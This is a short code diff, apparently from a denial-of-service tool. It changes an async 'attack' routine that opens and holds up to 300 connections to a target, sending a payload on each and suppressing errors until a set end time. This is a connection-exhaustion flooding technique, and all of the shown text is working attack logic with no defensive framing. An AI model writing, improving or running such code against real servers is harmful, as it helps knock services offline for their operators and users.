@@ -175,13 +175,10 @@ def silent(data: bytes, number: int = 300) -> Any:
 
     async def attack(target: Target) -> None:
         async with contextlib.AsyncExitStack() as stack:
-            while target.is_time:
+            for _ in range(number):
                 with contextlib.suppress(OSError, TimeoutError):
-                    if number > len(opened := stack._exit_callbacks):  # type: ignore[attr-defined]
-                        await stack.enter_async_context(target.connection(data))
-                        continue
-                    opened.clear()
-                await asyncio.sleep(0.5)
+                    await stack.enter_async_context(target.connection(data))
+            await asyncio.sleep(max(0.0, target.end - time.monotonic()))
 
     return attack
 
